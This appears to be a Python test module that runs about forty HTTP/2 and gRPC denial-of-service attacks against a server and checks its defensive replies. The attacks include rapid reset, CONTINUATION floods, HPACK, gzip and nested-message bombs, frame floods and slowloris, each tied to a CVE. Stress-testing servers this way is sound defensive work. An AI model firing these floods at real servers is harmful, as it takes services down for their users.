"""The attacks on a server, one function each: it is given the server's port and returns what the attacker got.

The figures (20,000 streams, 400,000 SETTINGS, 64 MiB) are those under which other servers were seen to suffer.
"""

from __future__ import annotations

import zlib
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import hpack

from benchmarks.attacks.attacker import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Attacker,
    frame,
    message,
    request,
)

MIB = 1024 * 1024
CALM = "GOAWAY ENHANCE_YOUR_CALM"
LOST = f"{CALM}: too many streams were opened for nothing"
FLOOD = f"{CALM}: a flood of frames that carry nothing"
ENDLESS = f"{CALM}: a header block far above the limit"
_NO_WINDOW = b"\0\4\0\0\0\0"


@dataclass(frozen=True)
class Attack:
    """One row.

    Attributes:
        run: A function of the port.
        gets: What the attacker should get.
        most_begun: Handlers that it may start in all; None: as many as it asks for.
        connections: How many it opens that get as far as calls.
        limits: Of the server, where the attack would take too long with the defaults.
        options: Of the server (`grpc.ServerOptions`), likewise.
        reference: CVE or rule behind it.
    """

    name: str
    run: Callable[[int], str]
    gets: str
    reference: str = ""
    most_begun: int | None = None
    connections: int = 1
    limits: Mapping[str, object] = field(default_factory=dict)
    options: Mapping[str, object] = field(default_factory=dict)

    def right(self, got: str) -> bool:
        """Whether the attacker got what it should; a GOAWAY may say more than `gets` asks for."""
        return got == self.gets or got.startswith(f"{self.gets}: ")


def odd(count: int, first: int = 1) -> range:
    """Identifiers of a client's streams."""
    return range(first, first + 2 * count, 2)


# Streams that come to nothing


def rapid_reset(port: int) -> str:
    """20,000 calls, each reset at once, in one go."""
    with Attacker(port) as attacker:
        attacker.send(
            *(
                attacker.call(stream, request("Hang"), None, end=False) + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in odd(20_000)
            )
        )
        return attacker.until_closed()


def hit_and_run(port: int) -> str:
    """The same by 20 connections one after the other, each of which is cut before anything of it can be answered."""
    for _ in range(20):
        with Attacker(port) as attacker:
            attacker.send(
                *(
                    attacker.call(stream, request("Hang"), None, end=False)
                    + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in odd(5000)
                )
            )
    with Attacker(port) as attacker:
        return attacker.settle()


def slow_reset(port: int) -> str:
    """100 calls at a time that begin, and are reset when they have begun."""
    with Attacker(port) as attacker:
        for start in range(1, 20_000, 200):
            streams = odd(100, start)
            attacker.send(*(attacker.call(stream, request("Hang")) for stream in streams))
            attacker.settle()
            attacker.send(*(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams))
            if (end := attacker.settle()) != "alive":
                return end
        return "alive"


def make_you_reset(port: int) -> str:
    """5,000 calls that the server has to reset, because their windows are made to overflow."""
    overflow = b"\x7f\xff\xff\xff"
    with Attacker(port) as attacker:
        attacker.send(
            *(
                attacker.call(stream, request("Hang")) + frame(WINDOW_UPDATE, 0, stream, overflow)
                for stream in odd(5000)
            )
        )
        return attacker.until_closed()


def malformed_requests(port: int) -> str:
    """20,000 requests that break HTTP/2: the server resets each."""
    with Attacker(port) as attacker:
        attacker.send(
            *(attacker.call(stream, request(extra=[("connection", "close")])) for stream in odd(20_000))
        )
        return attacker.until_closed()


def too_many_streams(port: int) -> str:
    """20,000 calls at once that wait."""
    with Attacker(port) as attacker:
        attacker.send(*(attacker.call(stream, request("Hang")) for stream in odd(20_000)))
        return attacker.until_closed()


# Header blocks


def continuation_flood(port: int) -> str:
    """A header block without end, an octet at a time."""
    with Attacker(port) as attacker:
        attacker.send(frame(HEADERS, 0, 1, attacker.block(request())))
        attacker.send(frame(CONTINUATION, 0, 1, b"\x82") * 100_000)
        return attacker.until_closed()


def continuation_flood_wide(port: int) -> str:
    """A header block without end, a whole frame at a time."""
    with Attacker(port) as attacker:
        attacker.send(frame(HEADERS, 0, 1, attacker.block(request())))
        attacker.send(frame(CONTINUATION, 0, 1, bytes(16_384)) * 1000)
        return attacker.until_closed()


def hpack_bomb(port: int) -> str:
    """One field of 4,000 octets in the table, then 16,000 references to it: 64 MiB from 16 KiB."""
    with Attacker(port) as attacker:
        attacker.send(attacker.call(1, request(extra=[("x", "v" * 4000)]), None))
        (index,) = attacker.block([("x", "v" * 4000)])
        attacker.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bytes([index]) * 16_000))
        return attacker.until_closed()


def header_bomb(port: int) -> str:
    """5 connections, 100 calls each, 1,800 fields of an octet each, on calls that hang: 0.9 MB becomes lists of tuples."""
    attackers = [Attacker(port) for _ in range(5)]
    ends = set()
    for attacker in attackers:
        first = attacker.block(request("Hang", [("a", "b")]))
        again = attacker.block(request("Hang", [("a", "b")]))
        attacker.send(frame(HEADERS, END_HEADERS, 1, first))
        tiny = again + again[-1:] * 1800
        attacker.send(*(frame(HEADERS, END_HEADERS, stream, tiny) for stream in odd(99, 3)))
    for attacker in attackers:
        ends.add(attacker.until_closed())
        attacker.socket.close()
    return " and ".join(sorted(ends))


def header_bomb_within_limits(port: int) -> str:
    """The same with as many fields as are allowed: all 500 calls hang, and hold what they hold."""
    attackers = [Attacker(port, _NO_WINDOW) for _ in range(5)]
    ends = set()
    for attacker in attackers:
        fields = request("Hang", [("a", "b")])
        attacker.send(attacker.call(1, fields))
        tiny = attacker.block(fields)
        tiny += tiny[-1:] * (128 - len(fields))
        attacker.send(
            *(
                frame(HEADERS, END_HEADERS, stream, tiny) + frame(DATA, END_STREAM, stream, message(b""))
                for stream in odd(99, 3)
            )
        )
        ends.add(attacker.settle())
    for attacker in attackers:
        attacker.socket.close()
    return " and ".join(sorted(ends))


def huffman_heads(port: int) -> str:
    """2,000 requests with metadata of 8 KiB, Huffman-coded: decoding is the most work per octet."""
    with Attacker(port) as attacker:
        fields = request(extra=[("x", "w" * 8000)])
        head = bytes(hpack.Encoder().encode([(*pair, True) for pair in fields], huffman=True))
        for start in range(1, 4000, 100):
            streams = odd(50, start)
            attacker.send(
                *(
                    frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, message(b""))
                    for stream in streams
                )
            )
            ends = {attacker.answer(stream) for stream in streams}
        return " and ".join(sorted(ends))


def integer_run_away(port: int) -> str:
    """An HPACK integer that never ends."""
    with Attacker(port) as attacker:
        attacker.send(frame(HEADERS, END_HEADERS, 1, b"\xff" * 16_000))
        return attacker.until_closed()


# Frames that carry nothing


def ping_flood(port: int) -> str:
    """100,000 PINGs, and the answers are read."""
    return _flood(port, frame(PING, 0, 0, bytes(8)), 100_000)


def settings_flood(port: int) -> str:
    """400,000 SETTINGS."""
    return _flood(port, frame(SETTINGS, 0, 0), 400_000)


def settings_of_windows(port: int) -> str:
    """10,000 SETTINGS that each change the windows of 100 streams 32 times."""
    with Attacker(port) as attacker:
        attacker.send(*(attacker.call(stream, request("Hang")) for stream in odd(100)))
        attacker.send(frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff" * 32) * 10_000)
        return attacker.until_closed()


def empty_data(port: int) -> str:
    """400,000 empty DATA frames that end nothing."""
    return _flood(port, frame(DATA, 0, 1), 400_000, to="Deaf")


def padding_only(port: int) -> str:
    """200,000 DATA frames of padding."""
    return _flood(port, frame(DATA, PADDED, 1, b"\3\0\0\0"), 200_000, to="Deaf")


def priority_flood(port: int) -> str:
    """200,000 PRIORITY frames."""
    return _flood(port, frame(PRIORITY, 0, 1, b"\0\0\0\3\0"), 200_000, to="Deaf")


def window_update_flood(port: int) -> str:
    """200,000 WINDOW_UPDATEs of an octet."""
    return _flood(port, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"), 200_000, to="Deaf")


def unknown_flood(port: int) -> str:
    """400,000 frames of an unknown type."""
    return _flood(port, frame(0x77, 0, 0), 400_000)


def reset_flood(port: int) -> str:
    """200,000 RST_STREAM of one stream that is closed."""
    return _flood(port, frame(RST_STREAM, 0, 1, CANCEL), 200_000, to="Deaf")


def _flood(port: int, wave: bytes, count: int, to: str | None = None) -> str:
    with Attacker(port) as attacker:
        if to is not None:
            attacker.send(attacker.call(1, request(to), None, end=False))
        attacker.send(wave * count)
        return attacker.until_closed()


def deaf_ping_flood(port: int) -> str:
    """2,000,000 PINGs by a client that reads nothing, until the server does not read it any more."""
    with Attacker(port) as attacker:
        attacker.send(frame(PING, 0, 0, bytes(8)) * 2_000_000)
        return attacker.until_closed()


# Windows


def zero_window(port: int) -> str:
    """100 endless streams asked for, and no window for any: nothing is sent, and little is kept."""
    with Attacker(port, _NO_WINDOW) as attacker:
        attacker.send(*(attacker.call(stream, request("Pour")) for stream in odd(100)))
        return attacker.settle()


def dribble(port: int) -> str:
    """100 endless streams, and a window of an octet at a time: each octet would be a frame of its own."""
    with Attacker(port, _NO_WINDOW) as attacker:
        attacker.send(*(attacker.call(stream, request("Pour")) for stream in odd(100)))
        wave = b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in odd(100))
        attacker.send(wave * 1000)
        return attacker.until_closed()


def dribble_together(port: int) -> str:
    """The same with the window of the connection, for which all streams wait."""
    with Attacker(port) as attacker:
        attacker.send(*(attacker.call(stream, request("Pour")) for stream in odd(100)))
        attacker.send(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 50_000)
        return attacker.until_closed()


def never_reading(port: int) -> str:
    """100 endless streams with windows as wide as they go, by a client that reads nothing."""
    with Attacker(port, b"\0\4\x7f\xff\xff\xff") as attacker:
        attacker.send(frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\x00\x00"))
        attacker.send(*(attacker.call(stream, request("Pour")) for stream in odd(100)))
        attacker.socket.settimeout(0.5)
        try:
            # The server reads on although nobody reads it: this arrives.
            for _ in range(50):
                attacker.send(frame(SETTINGS, 0, 0))
        except TimeoutError:
            return "stopped"
        return "open"


def answers_never_taken(port: int) -> str:
    """100 calls that are answered, by a client that never opens a window for the answers."""
    with Attacker(port, _NO_WINDOW) as attacker:
        attacker.send(*(attacker.call(stream, request(), message(b"x")) for stream in odd(100)))
        return " and ".join(sorted({attacker.answer(stream) for stream in odd(100)}))


def answers_not_read(port: int) -> str:
    """200,000 calls of a method that is not there, by a client that reads nothing: no window holds heads back.

    The answers name the method, and the client keeps no table for them: 15 octets ask for 350.
    """
    with Attacker(port, b"\0\1\0\0\0\0") as attacker:
        attacker.send(attacker.call(1, request("N" * 3000), None))
        again = attacker.block(request("N" * 3000))
        for start in range(3, 400_000, 20_000):
            streams = odd(10_000, start)
            attacker.send(*(frame(HEADERS, END_HEADERS | END_STREAM, stream, again) for stream in streams))
        return attacker.until_cut()


# Slow clients


def slowloris(port: int) -> str:
    """200 connections that never finish their preface."""
    attackers = [Attacker(port, None) for _ in range(200)]
    for attacker in attackers:
        attacker.send(PREFACE[:20])
    ends = {attacker.until_closed() for attacker in attackers}
    for attacker in attackers:
        attacker.socket.close()
    return " and ".join(sorted(ends))


def silent(port: int) -> str:
    """A preface, and then no SETTINGS."""
    with Attacker(port, None) as attacker:
        attacker.send(PREFACE)
        return attacker.until_closed()


def idle(port: int) -> str:
    """200 connections that shake hands, and do nothing from then on."""
    attackers = [Attacker(port) for _ in range(200)]
    ends = {attacker.until_closed() for attacker in attackers}
    for attacker in attackers:
        attacker.socket.close()
    return " and ".join(sorted(ends))


def too_many_connections(port: int) -> str:
    """200 connections, of which the server holds 50; the bystander's is one of them."""
    attackers = [Attacker(port) for _ in range(200)]
    ends = Counter(attacker.settle() for attacker in attackers)
    for attacker in attackers:
        attacker.socket.close()
    return ", ".join(f"{count} {end}" for end, count in sorted(ends.items()))


# Sizes


def announced_message(port: int) -> str:
    """A message of 4 GiB is announced."""
    with Attacker(port) as attacker:
        attacker.send(attacker.call(1, request(), b"\0\xff\xff\xff\xff", end=False))
        return attacker.answer(1)


def large_message(port: int) -> str:
    """A message of 64 MiB is sent, whatever the server says to it."""
    with Attacker(port) as attacker:
        attacker.send(attacker.call(1, request(), b"\0" + (64 * MIB).to_bytes(4, "big"), end=False))
        attacker.send(frame(DATA, 0, 1, bytes(16_384)) * 16)
        return attacker.answer(1)


def gzip_bomb(port: int) -> str:
    """256 MiB of zeros in 256 KiB of gzip."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join([squeezer.compress(bytes(MIB)) for _ in range(256)]) + squeezer.flush()
    with Attacker(port) as attacker:
        attacker.send(attacker.call(1, request(extra=[("grpc-encoding", "gzip")]), None, end=False))
        attacker.send_within_windows({1: message(bomb, 1)})
        attacker.send(frame(DATA, END_STREAM, 1))
        return attacker.answer(1)


def large_frame(port: int) -> str:
    """The head of a frame of 16 MiB, and as much of it as the server takes."""
    with Attacker(port) as attacker:
        attacker.send(frame(DATA, 0, 1, bytes(2**24 - 1)))
        return attacker.until_closed()


def nested_messages(port: int) -> str:
    """100 messages of 256 KiB, nested as deep as that goes: in a field that is known, and in groups of an unknown one."""
    heads, size = [], 0
    while size < MIB // 4:
        # google.protobuf.Value, in a list of values, in a Value ...
        for tag in (b"\x0a", b"\x32"):
            heads.append(tag + _varint(size))
            size += len(heads[-1])
    known, groups = b"".join(reversed(heads)), b"\x5b" * (MIB // 4)
    with Attacker(port) as attacker:
        streams = odd(100)
        attacker.send(*(attacker.call(stream, request("Nest"), None, end=False) for stream in streams))
        bodies = {stream: message(known if stream % 4 == 1 else groups) for stream in streams}
        attacker.send_within_windows(bodies)
        attacker.send(*(frame(DATA, END_STREAM, stream) for stream in streams))
        return " and ".join(sorted({attacker.answer(stream) for stream in streams}))


def _varint(number: int) -> bytes:
    octets = bytearray()
    while number > 127:
        octets.append(number & 127 | 128)
        number >>= 7
    return bytes((*octets, number))


def deaf_handlers(port: int) -> str:
    """100 calls whose handlers do not read: 1 MiB for each, as far as the windows go."""
    return _fill(port, "Deaf", message(bytes(16_379)) * 64)


def tiny_messages(port: int) -> str:
    """The same in messages of two octets: seven on the wire, an object or two each in memory."""
    return _fill(port, "Deaf", message(b"ab") * 150_000)


def unfinished_messages(port: int) -> str:
    """100 calls that each announce a message as long as allowed, and send all of it but its last octet."""
    return _fill(port, "Echo", message(bytes(4 * MIB))[:-1])


def _fill(port: int, method: str, body: bytes) -> str:
    with Attacker(port) as attacker:
        attacker.send(*(attacker.call(stream, request(method), None, end=False) for stream in odd(100)))
        attacker.send_within_windows(dict.fromkeys(odd(100), body))
        return attacker.settle()


# Answers


def header_list_of_nothing(port: int) -> str:
    """A client that accepts no header list at all makes 2,000 calls; CVE-2026-50560."""
    with Attacker(port, b"\0\6\0\0\0\0") as attacker:
        for start in range(1, 4000, 100):
            streams = odd(50, start)
            attacker.send(*(attacker.call(stream, request()) for stream in streams))
            ends = {attacker.answer(stream) for stream in streams}
        return " and ".join(sorted(ends))


def failing_handler(port: int) -> str:
    """2,000 calls of a method that fails for each: a traceback each would be a flood of the log."""
    with Attacker(port) as attacker:
        for start in range(1, 4000, 100):
            streams = odd(50, start)
            attacker.send(*(attacker.call(stream, request("Fail")) for stream in streams))
            ends = {attacker.answer(stream) for stream in streams}
        return " and ".join(sorted(ends))


ATTACKS = (
    Attack("rapid reset", rapid_reset, LOST, "CVE-2023-44487", most_begun=0),
    Attack("rapid reset and away", hit_and_run, "alive", "CVE-2023-44487", most_begun=0),
    Attack("slow reset", slow_reset, LOST, "CVE-2023-44487", most_begun=2400, limits={"reset_rate": 1}),
    Attack("MadeYouReset", make_you_reset, LOST, "CVE-2025-8671", most_begun=0),
    Attack("malformed requests", malformed_requests, LOST, "CVE-2025-8671", most_begun=0),
    Attack("streams above the limit", too_many_streams, LOST, "CVE-2025-8671", most_begun=100),
    Attack("CONTINUATION flood, octets", continuation_flood, ENDLESS, "VU#421644", most_begun=0),
    Attack("CONTINUATION flood, frames", continuation_flood_wide, ENDLESS, "VU#421644", most_begun=0),
    Attack(
        "HPACK bomb", hpack_bomb, f"{CALM}: a header list far above the limit", "CVE-2016-6581", most_begun=1
    ),
    Attack("header bomb", header_bomb, FLOOD, "CVE-2026-49975", most_begun=5, connections=5),
    Attack(
        "header bomb within limits",
        header_bomb_within_limits,
        "alive",
        "CVE-2026-49975",
        most_begun=500,
        connections=5,
    ),
    Attack("Huffman-coded heads", huffman_heads, "grpc-status 0"),
    Attack(
        "HPACK integer run-away", integer_run_away, "GOAWAY COMPRESSION_ERROR", "CVE-2023-33953", most_begun=0
    ),
    Attack("PING flood", ping_flood, f"{CALM}: too_many_pings", "CVE-2019-9512", most_begun=0),
    Attack(
        "PING flood, answers not read",
        deaf_ping_flood,
        f"{CALM}: too_many_pings",
        "CVE-2019-9512",
        most_begun=0,
    ),
    Attack("SETTINGS flood", settings_flood, FLOOD, "CVE-2019-9515", most_begun=0),
    Attack("SETTINGS of windows", settings_of_windows, FLOOD, "CVE-2019-9515", most_begun=100),
    Attack("empty DATA", empty_data, FLOOD, "CVE-2019-9518", most_begun=1),
    Attack("DATA of padding", padding_only, FLOOD, "CVE-2019-9518", most_begun=1),
    Attack("PRIORITY flood", priority_flood, FLOOD, "CVE-2019-9513", most_begun=1),
    Attack("WINDOW_UPDATE flood", window_update_flood, FLOOD, "CVE-2019-9511", most_begun=1),
    Attack("flood of unknown frames", unknown_flood, FLOOD, "RFC 9113 5.5", most_begun=0),
    Attack("RST_STREAM flood", reset_flood, FLOOD, "CVE-2019-9514", most_begun=1),
    Attack("zero window", zero_window, "alive", "CVE-2019-9517", most_begun=100),
    Attack("dribble on streams", dribble, FLOOD, "CVE-2019-9511", most_begun=100),
    Attack("dribble on the connection", dribble_together, FLOOD, "CVE-2019-9511", most_begun=100),
    Attack("never reading", never_reading, "open", "CVE-2019-9517", most_begun=100),
    Attack(
        "answers never taken",
        answers_never_taken,
        "RST_STREAM CANCEL",
        "CVE-2019-9517",
        most_begun=100,
        limits={"flush_timeout": 0.5},
    ),
    Attack("answers not read", answers_not_read, "closed", "CVE-2019-9517", most_begun=0),
    Attack("slowloris", slowloris, "closed", most_begun=0, limits={"handshake_timeout": 0.5}),
    Attack("preface without SETTINGS", silent, "closed", most_begun=0, limits={"handshake_timeout": 0.5}),
    Attack(
        "idle connections",
        idle,
        "GOAWAY NO_ERROR",
        most_begun=0,
        connections=200,
        options={"max_connection_idle": 0.5},
    ),
    Attack(
        "too many connections",
        too_many_connections,
        "49 alive, 151 closed",
        most_begun=0,
        limits={"max_connections": 50},
    ),
    Attack("announced message", announced_message, "grpc-status 8", most_begun=1),
    Attack("large message", large_message, "grpc-status 8", most_begun=1),
    Attack("gzip bomb", gzip_bomb, "grpc-status 8", most_begun=1),
    Attack("nested messages", nested_messages, "grpc-status 13", "CVE-2026-0994", most_begun=0),
    Attack("frame of 16 MiB", large_frame, "GOAWAY FRAME_SIZE_ERROR", "RFC 9113 4.2", most_begun=0),
    Attack("handlers that do not read", deaf_handlers, "alive", most_begun=100),
    Attack("tiny messages", tiny_messages, "alive", most_begun=100),
    Attack("unfinished messages", unfinished_messages, "alive", most_begun=0),
    Attack("header list of nothing", header_list_of_nothing, "grpc-status 0", "CVE-2026-50560"),
    Attack("failing handler", failing_handler, "grpc-status 2"),
)
